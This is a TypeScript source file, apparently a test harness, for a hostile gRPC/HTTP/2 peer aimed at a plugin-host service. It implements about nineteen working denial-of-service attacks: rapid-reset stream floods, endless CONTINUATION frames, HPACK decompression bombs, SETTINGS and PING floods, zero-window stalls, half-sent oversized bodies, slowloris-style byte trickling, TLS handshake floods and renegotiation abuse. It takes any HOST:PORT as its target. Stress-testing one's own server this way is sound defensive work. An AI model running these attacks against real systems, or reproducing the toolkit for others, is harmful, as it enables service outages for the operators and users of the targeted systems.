// A peer of the gRPC port that does not mean well, in a process of its own: `node peer.js ATTACK HOST:PORT [CA_FILE]`, with a
// file where the port speaks TLS. Prints one line of JSON when it has done what it can, and stays until its standard input ends.
import { readFileSync } from 'node:fs';
import http2 from 'node:http2';
import net from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import tls from 'node:tls';
import {
  CONTINUATION,
  calls,
  DATA,
  frame,
  HEADERS,
  headerBomb,
  PING,
  PREFACE,
  rawConnection,
  SETTINGS,
  silentConnection,
  statusHeaders,
} from './raw-calls.js';

const [attack = '', address = '', caFile] = process.argv.slice(2);
const [host = '', port] = address.split(':');
const TARGET = { host, port: Number(port), ca: caFile === undefined ? undefined : readFileSync(caFile, 'utf8') };
const SERVICE = '/pluginhost.v1.PluginHost';
/** In sum over all connections; each takes a hundred streams at a time from one peer. */
const CONNECTIONS = 100;

const seen = {
  streams: 0,
  reset: 0,
  refused: 0,
  connectionsLost: 0,
  sentMiB: 0,
  frames: 0,
  handshakes: 0,
  renegotiated: 0,
};
const lost = () => {
  seen.connectionsLost += 1;
};
const NOTHING = Buffer.alloc(0);
/** For how long a flood goes on. */
const FLOOD_MS = 2_500;

function connect(settings: http2.Settings = {}): http2.ClientHttp2Session {
  const { ca } = TARGET;
  const session =
    ca === undefined
      ? http2.connect(`http://${address}`, { settings })
      : http2.connect(`https://${address}`, { settings, ca });
  session.on('error', () => undefined);
  session.on('close', lost);
  return session;
}

function open(
  session: http2.ClientHttp2Session,
  method: string,
  metadata: http2.OutgoingHttpHeaders = {},
): http2.ClientHttp2Stream | undefined {
  if (session.destroyed || session.closed) return undefined;
  const headers = {
    ':method': 'POST',
    ':path': `${SERVICE}/${method}`,
    'content-type': 'application/grpc',
    te: 'trailers',
  };
  const stream = session.request({ ...headers, ...metadata }, { endStream: false });
  seen.streams++;
  stream.on('error', () => undefined);
  stream.on('response', () => seen.refused++);
  stream.on('close', () => seen.reset++);
  stream.resume();
  return stream;
}

/** The head of a message of so many bytes. */
function head(bytes: number): Buffer {
  const out = Buffer.alloc(5);
  out.writeUInt32BE(bytes, 1);
  return out;
}

/**
 * So many connections that send the same bytes again and again, as fast as they are taken, until the time is over; each begins with
 * `first`. One that is cut is made anew. With `deaf` they take nothing that they are sent.
 */
async function flood(
  connections: number,
  bytes: Buffer,
  frames: number,
  first: Buffer = NOTHING,
  deaf = false,
): Promise<void> {
  let over = false;
  const open = () => {
    if (over) return;
    const socket = rawConnection(TARGET, () => {
      lost();
      setTimeout(open, 20);
    });
    if (deaf) socket.pause();
    socket.write(first);
    const more = () => {
      if (over || socket.destroyed) return;
      seen.frames += frames;
      seen.sentMiB += bytes.length / 1024 / 1024;
      if (socket.write(bytes)) setImmediate(more);
      else socket.once('drain', more);
    };
    socket.once(TARGET.ca === undefined ? 'connect' : 'secureConnect', more);
  };
  for (let i = 0; i < connections; i++) open();
  await sleep(FLOOD_MS);
  over = true;
}

/** So many connections whose bytes come one by one. */
async function trickle(connections: number, bytes: Buffer, pauseMs: number): Promise<void> {
  const sockets = Array.from({ length: connections }, () => silentConnection(TARGET, lost));
  for (const byte of bytes) {
    for (const socket of sockets) if (!socket.destroyed) socket.write(Buffer.of(byte));
    await sleep(pauseMs);
  }
}

const repeated = (bytes: Buffer, times: number) => Buffer.concat(Array.from({ length: times }, () => bytes));

/** The first message of a client of TLS. */
async function helloBytes(): Promise<Buffer> {
  return new Promise((resolve) => {
    const listener = net.createServer((socket) =>
      socket.once('data', (bytes) => {
        socket.destroy();
        listener.close();
        resolve(bytes);
      }),
    );
    listener.listen(0, '127.0.0.1', () => {
      const { port: at } = listener.address() as net.AddressInfo;
      tls.connect({ port: at, host: '127.0.0.1', ALPNProtocols: ['h2'] }).on('error', () => undefined);
    });
  });
}

const ATTACKS: Readonly<Record<string, () => Promise<void>>> = {
  /** Creates by the thousand, each reset as soon as it is sent. */
  async resets() {
    const sessions = Array.from({ length: 4 }, () => connect());
    for (let i = 0; i < 3_000; i++) {
      for (const session of sessions) {
        const stream = open(session, 'Create');
        stream?.end(Buffer.concat([head(300), Buffer.alloc(300, 10)]));
        stream?.close(http2.constants.NGHTTP2_CANCEL);
      }
      if (i % 100 === 0) await sleep(1);
    }
  },
  /** Streams that begin and never go on, with as much metadata as passes. */
  async headersOnly() {
    const sessions = Array.from({ length: CONNECTIONS }, () => connect());
    for (let i = 0; i < 200; i++) {
      for (const session of sessions) open(session, 'Status', { 'x-filler': 'f'.repeat(15_000) });
      await sleep(10);
    }
  },
  /** As much metadata, from many connections at once. */
  async bursts() {
    const sockets = Array.from({ length: 500 }, () => rawConnection(TARGET, lost));
    await sleep(1_000);
    for (let round = 0; round < 10; round++) {
      const burst = calls(statusHeaders(15_000), 4 * round, 4);
      for (const socket of sockets) socket.write(burst);
      seen.streams += 4 * sockets.length;
      await sleep(50);
    }
  },
  /** Many calls on each of many connections, which all break at once. */
  async leaving() {
    const sockets = Array.from({ length: 300 }, () => rawConnection(TARGET, lost));
    await sleep(1_000);
    const burst = calls(statusHeaders(), 0, 100);
    for (const socket of sockets) socket.write(burst);
    seen.streams += 100 * sockets.length;
    await sleep(4_000);
    for (const socket of sockets) socket.destroy();
  },
  /** Large requests that are announced, half sent, and never ended. */
  async half() {
    const session = connect();
    const chunk = Buffer.alloc(256 * 1024, 65);
    await Promise.all(
      Array.from({ length: 40 }, async () => {
        const stream = open(session, 'Status');
        stream?.write(head(63 * 1024 * 1024));
        for (let i = 0; i < 160 && stream !== undefined && !stream.destroyed; i++) {
          await new Promise<void>((resolve) => {
            stream.write(chunk, () => resolve());
            stream.once('close', () => resolve());
          });
          seen.sentMiB += 0.25;
        }
      }),
    );
  },
  /** Answers that nobody takes: no byte of them may be sent. */
  async untaken() {
    const sessions = Array.from({ length: 20 }, () => connect({ initialWindowSize: 0 }));
    for (let i = 0; i < 90; i++) {
      for (const session of sessions) open(session, 'ListPlugins')?.end(head(0));
      await sleep(10);
    }
  },
  /** Connections that say nothing, or one byte. */
  async idle() {
    for (let i = 0; i < 3_000; i++) {
      const socket = net.connect(TARGET.port, host);
      socket.on('error', () => undefined);
      socket.on('close', lost);
      if (i % 2 === 0) socket.on('connect', () => socket.write('P'));
      if (i % 50 === 0) await sleep(10);
    }
  },
  /** Headers that never end: one frame after the other, without the last. */
  async continuation() {
    const begin = frame(HEADERS, 0, 1, statusHeaders());
    await flood(30, repeated(frame(CONTINUATION, 0, 1, statusHeaders(100)), 50), 50, begin);
  },
  /** The same with frames that hold nothing, for which no bound of bytes is ever reached. */
  async emptyContinuation() {
    await flood(30, repeated(frame(CONTINUATION, 0, 1, NOTHING), 500), 500, frame(HEADERS, 0, 1, statusHeaders()));
  },
  /** Headers of some kilobytes that are megabytes when they are unpacked. */
  async hpack() {
    const bomb = headerBomb(3_900, 12_000);
    let over = false;
    const open = () => {
      if (over) return;
      const socket = rawConnection(TARGET, () => {
        lost();
        setTimeout(open, 20);
      });
      let from = 0;
      const more = () => {
        if (over || socket.destroyed) return;
        seen.streams += 4;
        from += 4;
        if (socket.write(calls(bomb, from, 4))) setImmediate(more);
        else socket.once('drain', more);
      };
      more();
    };
    for (let i = 0; i < 60; i++) open();
    await sleep(FLOOD_MS);
    over = true;
  },
  /** Settings, each of which asks to be acknowledged, by who takes no acknowledgement. */
  async settings() {
    const one = Buffer.from([0, 4, 0, 0, 255, 255]);
    await flood(20, repeated(frame(SETTINGS, 0, 0, one), 1_000), 1_000, NOTHING, true);
  },
  /** Pings, each of which asks for an answer, by who takes none. */
  async pings() {
    await flood(20, repeated(frame(PING, 0, 0, Buffer.alloc(8, 7)), 1_000), 1_000, NOTHING, true);
  },
  /** Bodies of frames that hold nothing. */
  async empty() {
    await flood(20, repeated(frame(DATA, 0, 1, NOTHING), 1_000), 1_000, calls(statusHeaders(), 0, 1));
  },
  /** Calls whose bytes come one by one. */
  async slow() {
    const sockets = Array.from({ length: 400 }, () => rawConnection(TARGET, lost));
    await sleep(500);
    for (const socket of sockets) socket.write(calls(statusHeaders(), 0, 1));
    seen.streams += sockets.length;
    const body = Buffer.concat([head(1_000), Buffer.alloc(95, 65)]);
    for (const byte of body) {
      for (const socket of sockets) if (!socket.destroyed) socket.write(frame(DATA, 0, 1, Buffer.of(byte)));
      await sleep(20);
    }
  },
  /** The first words of HTTP/2, byte by byte. */
  async prefaces() {
    await trickle(800, Buffer.concat([PREFACE, calls(statusHeaders(), 0, 1)]).subarray(0, 60), 40);
  },
  /** Handshakes that are begun, and not gone on with. */
  async hellos() {
    const hello = await helloBytes();
    for (let i = 0; i < 2_000; i++) {
      const socket = net.connect(TARGET.port, host, () => socket.write(hello));
      socket.on('error', () => undefined);
      socket.on('close', lost);
      socket.resume();
      seen.handshakes += 1;
      if (i % 20 === 0) await sleep(20);
    }
  },
  /** Handshakes that are ended, by who goes at once and comes again. */
  async handshakes() {
    let over = false;
    const come = (): Promise<void> =>
      new Promise((resolve) => {
        const socket = tls.connect({ ...TARGET, ALPNProtocols: ['h2'] }, () => {
          seen.handshakes += 1;
          socket.destroy();
        });
        socket.on('error', () => undefined);
        socket.on('close', () => resolve());
      });
    const crowd = Array.from({ length: 60 }, async () => {
      while (!over) await come();
    });
    await sleep(FLOOD_MS);
    over = true;
    await Promise.all(crowd);
  },
  /** New handshakes within connections, each of which would cost as much as the first. */
  async renegotiation() {
    // One whose first handshake is under way would take its end for that of the second.
    const made: tls.TLSSocket[] = [];
    for (let index = 0; index < 50; index++) {
      const socket = tls.connect({ ...TARGET, ALPNProtocols: ['h2'], maxVersion: 'TLSv1.2' });
      socket.on('error', () => undefined);
      socket.on('close', lost);
      socket.resume();
      socket.on('secureConnect', () => {
        seen.handshakes += 1;
        socket.write(PREFACE);
        made.push(socket);
      });
    }
    await sleep(1_000);
    for (let round = 0; round < 20; round++) {
      for (const socket of made) {
        if (socket.destroyed) continue;
        socket.renegotiate({}, (error) => {
          if (error === null) seen.renegotiated += 1;
        });
      }
      await sleep(50);
    }
  },
};

const play = ATTACKS[attack];
if (play === undefined) throw new Error(`no attack ${attack}; there are ${Object.keys(ATTACKS).join(', ')}`);
await play();
console.log(JSON.stringify({ done: attack, ...seen }));
process.stdin.resume().on('end', () => process.exit(0));
